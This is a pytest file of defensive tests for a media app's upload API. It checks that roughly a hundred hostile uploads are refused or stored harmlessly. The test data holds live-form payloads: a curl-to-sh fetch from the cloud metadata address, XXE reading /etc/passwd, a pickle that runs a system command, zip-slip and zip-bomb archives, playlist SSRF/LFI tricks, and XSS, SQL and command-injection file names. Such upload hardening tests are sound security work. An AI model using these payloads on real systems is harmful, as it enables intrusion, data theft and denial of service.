"""Uploads that nobody should send: each is refused, or kept as the plain media it also is."""

from __future__ import annotations

import base64
import struct
from collections.abc import Callable, Iterator
from pathlib import Path

import hostile
import pytest
from flask.testing import FlaskClient
from hostile import HTML, PHP, SVG, WAV, Bait, Made

from autodub.infra import server_settings, settings
from autodub.jobs.platform import LOCAL_ACTOR, Platform
from autodub.web.app import create_app

Content = Callable[[Made, Bait], bytes]


def _always(data: bytes) -> Content:
    return lambda made, bait: data


def _named(kind: str) -> Content:
    return lambda made, bait: getattr(made, kind)


REFUSED: dict[str, Content] = {
    # --- what is no recording at all, under the name of one
    "empty.mp4": _always(b""),
    "zeros.mp4": _always(bytes(100_000)),
    "noise.mp4": _always(bytes((7 * index * index + 3) % 251 for index in range(50_000))),
    "page.mp4": _always(HTML),
    "page.mkv": _always(HTML),
    "picture.mp4": _always(SVG),
    "script.mp4": _always(PHP),
    "shell.mp4": _always(b"#!/bin/sh\ncurl http://169.254.169.254/ | sh\n"),
    "windows.mp4": _always(b"MZ\x90\0" + bytes(60) + b"PE\0\0" + bytes(2000)),
    "linux.mp4": _always(b"\x7fELF\x02\x01\x01" + bytes(2000)),
    "java.mp4": _always(b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(2000)),
    "wasm.mp4": _always(b"\0asm\x01\0\0\0" + bytes(2000)),
    "paper.mp4": _always(b"%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>\nendobj\n%%EOF\n"),
    "archive.mp4": _always(hostile.zip_of("../../../../tmp/evil.sh", b"#!/bin/sh\n")),
    "links.mp4": _always(hostile.tar_of("../../etc/passwd")),
    "bomb.mp4": _always(hostile.bomb()),
    "bombs.mp4": _always(hostile.zip_of("zeros", bytes(1 << 24))),
    "data.mp4": lambda made, bait: hostile.database(bait.folder),
    "pickle.mp4": _always(b"\x80\x04\x95#\0\0\0\0\0\0\0\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R."),
    "entities.mp4": _always(
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    ),
    "still.mp4": _named("png"),
    "still.mp3": _named("jpeg"),
    "moving.mp4": _named("gif"),
    "huge.mp4": _always(hostile.png_of(2_000_000_000, 2_000_000_000)),
    "words.mp4": _always(b"1\n00:00:01,000 --> 00:00:02,000\nHello\n"),
    # --- recordings under the name of something else
    "film.mkv": _named("mp4"),
    "film.mp3": _named("mp4"),
    "sound.mp4": _always(WAV),
    "song.wav": _named("mp3"),
    "film.avi": _named("mkv"),
    # --- lists that name files and addresses
    "list.mp4": lambda made, bait: hostile.m3u8(f"file://{bait.file}"),
    "list.ts": lambda made, bait: hostile.m3u8(str(bait.file)),
    "list.mp3": lambda made, bait: hostile.m3u8(f"{bait.url}/latest/meta-data/"),
    "metadata.mp4": _always(hostile.m3u8("http://169.254.169.254/latest/meta-data/")),
    "joined.mp4": lambda made, bait: hostile.m3u8(f"concat:http://127.0.0.1/|file:{bait.file}"),
    "part.mp4": lambda made, bait: hostile.m3u8(f"subfile,,start,0,end,100,,:{bait.file}"),
    "list-before.ts": lambda made, bait: hostile.m3u8(str(bait.file)) + made.ts,
    "key.mp4": lambda made, bait: (
        f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{bait.url}/key"\n#EXTINF:5,\n{bait.file}\n'.encode()
    ),
    "concat.mp4": lambda made, bait: f"ffconcat version 1.0\nfile '{bait.file}'\n".encode(),
    "concat.mkv": lambda made, bait: f"ffconcat version 1.0\nfile '{bait.url}/a.mp4'\n".encode(),
    "options.mp4": lambda made, bait: (
        f"ffconcat version 1.0\nfile '{bait.file}'\noption safe 0\noption protocol_whitelist all\n".encode()
    ),
    "dash.mp4": lambda made, bait: hostile.mpd(f"{bait.url}/a.mp4"),
    "dashed.mp4": lambda made, bait: hostile.mpd(f"file://{bait.file}"),
    "session.mp4": _always(
        b"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio 5004 RTP/AVP 0\n"
    ),
    "windows.wmv": lambda made, bait: (
        f'<ASX version="3.0"><ENTRY><REF HREF="{bait.url}/a"/></ENTRY></ASX>'.encode()
    ),
    "real.rm": lambda made, bait: f"{bait.url}/a.rm\n".encode(),
    "smil.mp4": lambda made, bait: f'<smil><body><video src="{bait.url}/a"/></body></smil>'.encode(),
    "pls.mp3": lambda made, bait: f"[playlist]\nFile1={bait.url}/a.mp3\nNumberOfEntries=1\n".encode(),
    "script.avi": lambda made, bait: f'AVISource("{bait.file}")\n'.encode(),
    "index.mpg": lambda made, bait: (
        f"# VobSub index file, v7\nsize: 720x576\nid: en, index: 0\n# alt: {bait.file}\n".encode()
    ),
    "imf.mxf": lambda made, bait: (
        f'<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>{bait.file}</Id>'
        "</CompositionPlaylist>".encode()
    ),
    # --- recordings whose data lie elsewhere
    "elsewhere.mov": lambda made, bait: hostile.referring(made.mp4, bytes(bait.file), alias=True),
    # --- what claims more than it has
    "days.mp4": lambda made, bait: hostile.lasting(made.mp4, 10 * 86_400),
    "hours.mp4": lambda made, bait: hostile.lasting(made.mp4, 20 * 3600),
    "years.flac": lambda made, bait: hostile.long_flac(made.flac),
    "centuries.ogg": lambda made, bait: hostile.long_ogg(made.ogg),
    "large.avi": lambda made, bait: hostile.wide_avi(made.avi, 20_000, 12_000),
    "wide.avi": lambda made, bait: hostile.wide_avi(made.avi, 60_000, 60_000),
    "wider.avi": lambda made, bait: hostile.wide_avi(made.avi, 0x7FFFFFFF, 0x7FFFFFFF),
    "tracks.mp4": lambda made, bait: hostile.many_tracks(made.mp4, 300),
    "more-tracks.mp4": lambda made, bait: hostile.many_tracks(made.mp4, 5000),
    "channels.wav": _always(hostile.odd_wav(channels=60_000, bits=8)),
    "rate.wav": _always(hostile.odd_wav(rate=0xFFFFFFFF)),
    "no-rate.wav": _always(hostile.odd_wav(rate=0)),
    "no-channels.wav": _always(hostile.odd_wav(channels=0)),
    # --- what is broken
    "nested.mp4": _always(hostile.nested(5000)),
    "box.mp4": _always(hostile.box(b"ftyp", b"isom") + struct.pack(">I4sQ", 1, b"moov", 1 << 62) + bytes(99)),
    "loop.mp4": _always(hostile.box(b"ftyp", b"isom") + struct.pack(">I4s", 0, b"moov") * 1000),
    "head.mp4": lambda made, bait: made.mp4[:40],
    "no-index.mp4": lambda made, bait: made.mp4[: len(made.mp4) // 2],
    "head.mkv": lambda made, bait: made.mkv[:60],
    "element.mkv": _always(b"\x1aE\xdf\xa3\x01\xff\xff\xff\xff\xff\xff\xfe" + bytes(5000)),
    "head.wav": _always(WAV[:20]),
    "head.ogg": _always(b"OggS" + bytes(60)),
    "head.flac": _always(b"fLaC\0\0\0\x22" + bytes(34)),
    "head.mp3": _always(b"ID3\x04\0\0\x7f\x7f\x7f\x7f" + bytes(5000)),
    "head.avi": _always(b"RIFF\xff\xff\xff\xffAVI LIST\xff\xff\xff\xffhdrl" + bytes(99)),
    "head.flv": _always(b"FLV\x01\x05\0\0\0\x09\0\0\0\0"),
    "packets.ts": _always((b"\x47\x1f\xff\x10" + bytes(184)) * 500),
    "silent.mp4": _named("silent"),
    # --- subtitles that are none
    "binary.srt": _always(WAV),
    "archive.srt": _always(hostile.zip_of("a.srt", b"1")),
    "page.vtt": _always(HTML),
    "script.srt": _always(PHP),
    "zeros.srt": _always(bytes(1 << 20)),
    "long.srt": _always(b"x" * 5_000_001),
    "line.srt": _always(b"1\n" + b"<" * 4_000_000),
    "times.vtt": _always(b"WEBVTT\n\n" + b"--> " * 1_000_000),
    # --- names that stand for nothing we take
    "page.html": _always(HTML),
    "picture.svg": _always(SVG),
    "script.php": _always(PHP),
    "film.mp4.exe": _named("mp4"),
    "film.wav.php": _always(WAV),
    "list.m3u8": lambda made, bait: hostile.m3u8(str(bait.file)),
    "list.ffconcat": lambda made, bait: f"file '{bait.file}'\n".encode(),
    "manifest.mpd": lambda made, bait: hostile.mpd(bait.url),
    "session.sdp": _always(b"v=0\n"),
    "image%03d.png": _named("png"),
    "archive.zip": _always(hostile.zip_of("a.wav", WAV)),
    "no-ending": _always(WAV),
    ".htaccess": _always(WAV),
    "desktop.ini": _always(WAV),
}
HARMLESS: dict[str, Content] = {
    # --- recordings that are something else as well
    "attached.mkv": _named("mkv"),
    "zipped.wav": _always(WAV + hostile.zip_of("../evil.sh", b"x")),
    "page.wav": _always(hostile.noted_wav(HTML)),
    "php.wav": _always(hostile.noted_wav(PHP)),
    "page-behind.mp4": lambda made, bait: made.mp4 + HTML,
    "page-inside.mp4": lambda made, bait: hostile.box(b"free", HTML) + made.mp4,
    "title.mp3": lambda made, bait: hostile.tagged_mp3(made.mp3, HTML),
    "page-before.mp3": lambda made, bait: HTML + made.mp3,
    "paper.mp3": lambda made, bait: b"%PDF-1.7\n" + made.mp3,
    "shell.mp3": lambda made, bait: b"#!/bin/sh\nid\n" + made.mp3,
    # --- what names other places, of which nobody takes notice
    "elsewhere.mp4": lambda made, bait: hostile.referring(made.mp4, f"file://{bait.file}".encode()),
    "elsewhere.m4a": lambda made, bait: hostile.referring(made.mp4, f"{bait.url}/a.mp4".encode()),
    "subtitled.avi": lambda made, bait: hostile.gab2_avi(f"file://{bait.file}"),
    "subtitled2.avi": lambda made, bait: hostile.gab2_avi(f"{bait.url}/latest/meta-data/"),
    # --- what is cut off, or says a little too much
    "streams.avi": lambda made, bait: hostile.many_streams_avi(made.avi),
    "cut.wav": _always(WAV[: len(WAV) // 2]),
    "cut.mkv": lambda made, bait: made.mkv[: len(made.mkv) * 2 // 3],
    "cut.mp3": lambda made, bait: made.mp3[: len(made.mp3) // 2],
    "endless.wav": _always(hostile.odd_wav(size=0xFFFFFFFF)),
    # --- subtitles with more in them than words
    "markup.srt": _always(b"1\n00:00:01,000 --> 00:00:02,000\n<script>alert(1)</script><b>Hi</b>\n"),
    "styled.vtt": lambda made, bait: (
        f"WEBVTT\n\nSTYLE\n::cue {{ background: url({bait.url}/a) }}\n\n"
        "00:01.000 --> 00:02.000\nHello there\n".encode()
    ),
    "fonts.ass": _always(
        b"[Script Info]\n[Fonts]\nfontname: ../../evil.ttf\n"
        + b"!" * 5000
        + b"\n[Events]\nFormat: Start, End, Text\nDialogue: 0:00:01.00,0:00:02.00,{\\fnx}Hello there\n"
    ),
    "crowd.srt": _always(hostile.cues(20_000)),
}
NAMES: dict[str, str] = {
    "../../etc/passwd.srt": "passwd.srt",
    "../../../../../../tmp/evil.srt": "evil.srt",
    "..\\..\\Windows\\evil.srt": "evil.srt",
    "/etc/cron.d/evil.srt": "evil.srt",
    "C:\\evil.srt": "evil.srt",
    "\\\\server\\share\\evil.srt": "evil.srt",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd.srt": "%2e%2e%2f%2e%2e%2fetc%2fpasswd.srt",
    "..%c0%afevil.srt": "..%c0%afevil.srt".strip("."),
    "a\0.srt": "a.srt",
    "a.php\0.srt": "a.php.srt",
    "a\nb.srt": "a b.srt",
    "a\r\nSet-Cookie: x=1.srt": "a Set-Cookie_ x=1.srt",
    "\u202egpj.srt": "gpj.srt",
    "a\u2066\u200f\u2069.srt": "a.srt",
    "a\u200b\ufeff.srt": "a.srt",
    "a\x1b[31m.srt": "a [31m.srt",
    "x" * 10_000 + ".srt": "x" * 150 + ".srt",
    "\U0001f3ac" * 3000 + ".srt": "\U0001f3ac" * 50 + ".srt",
    "CON.srt": "_CON.srt",
    "aux.srt": "_aux.srt",
    "nul.tar.srt": "_nul.tar.srt",
    "lpt1 .srt": "_lpt1.srt",
    "~root.srt": "~root.srt",
    "-rf.srt": "-rf.srt",
    "$(id)`id`;id|id&.srt": "$(id)`id`;id_id&.srt",
    '"><img src=x onerror=alert(1)>.srt': "___img src=x onerror=alert(1)_.srt",
    "' OR 1=1; DROP TABLE uploads;--.srt": "' OR 1=1; DROP TABLE uploads;--.srt",
    "file:///etc/passwd.srt": "passwd.srt",
    "http://169.254.169.254/a.srt": "a.srt",
    "concat:a.srt|b.srt": "concat_a.srt_b.srt",
    "pipe:0.srt": "pipe_0.srt",
    "image%03d.srt": "image%03d.srt",
    "{{7*7}}${7*7}.srt": "{{7_7}}${7_7}.srt",
    "a.php.srt": "a.php.srt",
    "..srt": "",
    ".srt": "",
    "...": "",
    "/": "",
    "": "",
    " ": "",
    "\u202e.srt": "",
    "NUL": "",
    "a.srt/..": "",
}
SRT = b"1\n00:00:01,000 --> 00:00:02,000\nHello there.\n"
_INSIDE = ("data", "made", "bait")


class Scene:
    """A server, honest files, bait, and everything that lies around."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        for name in _INSIDE[1:]:
            (folder / name).mkdir()
        self.made, self.bait = Made(folder / "made"), Bait(folder / "bait")
        known = settings.load(environ={"HOME": str(folder)}, data_dir=folder / "data")
        self.platform = Platform(known, server_settings.load(known, environ={}, given={"spare": 0}))
        app = create_app(self.platform)
        app.testing = True
        self.client: FlaskClient = app.test_client()

    def send(self, name: str, content: bytes) -> tuple[int, str, dict[str, object]]:
        """Upload in one request: status, text and JSON of the answer; no place of the server is told."""
        coded = base64.b64encode(name.encode("utf-8", "surrogatepass")).decode()
        answer = self.client.post(
            "/api/v1/uploads", data=content,
            headers={
                "Tus-Resumable": "1.0.0", "Upload-Length": str(len(content)),
                "Upload-Metadata": f"filename {coded}", "Content-Type": "application/offset+octet-stream",
            },
        )  # fmt: skip
        said = answer.get_json() if answer.data else {}
        if answer.status_code == 201:
            said = self.client.get(answer.headers["Location"]).get_json()
        text = f"{answer.text} {said} {dict(answer.headers)}"
        assert str(self.folder) not in text
        assert "Traceback" not in text
        assert "secret of this machine" not in text
        assert not self.bait.was_opened()
        assert {path.name for path in self.folder.iterdir()} == set(_INSIDE)
        return answer.status_code, text, said

    def close(self) -> None:
        """Let go of everything."""
        self.bait.close()
        self.platform.close()


@pytest.fixture(scope="module")
def scene(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
    """One server for all of them: what one did would be seen by the others."""
    found = Scene(tmp_path_factory.mktemp("hostile"))
    yield found
    found.close()


@pytest.fixture(autouse=True)
def _nothing_stays(scene: Scene) -> Iterator[None]:
    """Every upload can be deleted, and then no byte of it is left."""
    yield
    for upload in scene.platform.uploads.mine(LOCAL_ACTOR)[0]:
        scene.platform.uploads.delete(LOCAL_ACTOR, upload.id)
    growing = (scene.platform.settings.data_dir / "uploads").glob("*")
    assert [*growing, *scene.platform.store.blobs.files()] == []


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_no_honest_recording_is_refused(scene: Scene, name: str) -> None:
    """With a problem that says why, before anything is made of it; nothing that it names is opened."""
    status, text, said = scene.send(name, REFUSED[name](scene.made, scene.bait))
    assert status in (400, 413), text
    assert said["code"] in ("unsupported_source", "bad_subtitles", "bad_option", "too_large"), text


@pytest.mark.parametrize("name", HARMLESS)
def test_what_is_a_recording_as_well_is_kept_as_one(scene: Scene, name: str) -> None:
    """Under the ending of its kind and a name of ours, and nothing else in it is looked at."""
    content = HARMLESS[name](scene.made, scene.bait)
    status, text, said = scene.send(name, content)
    assert (status, said["state"]) == (201, "ready"), text
    (kept,) = scene.platform.store.blobs.files()
    assert (kept.suffix, kept.read_bytes()) == (Path(name).suffix, content)
    assert kept.stat().st_mode & 0o111 == 0


@pytest.mark.parametrize("name", NAMES, ids=lambda name: repr(name[:40]))
def test_names_are_no_more_than_names(scene: Scene, name: str) -> None:
    """They are shown in one line, never part of a path; one of which nothing is left is refused."""
    status, text, said = scene.send(name, SRT)
    if not NAMES[name]:
        assert (status, said["code"]) == (400, "unsupported_source"), text
        return
    assert (status, said["name"]) == (201, NAMES[name]), text
    (kept,) = scene.platform.store.blobs.files()
    assert kept.parent.parent == scene.platform.settings.data_dir / "blobs"


def test_there_are_a_hundred_of_them() -> None:
    """The issue asks for as many."""
    assert len(REFUSED) + len(HARMLESS) >= 100


def test_the_bait_would_notice(scene: Scene) -> None:
    """Whoever opens the file or asks the address is seen."""
    bait = Bait(scene.folder / "bait")
    assert not bait.was_opened()
    bait.file.read_bytes()
    assert bait.was_opened()
    bait.close()
    assert scene.bait.was_opened()  # the file was written anew
    scene.bait.opened.clear()
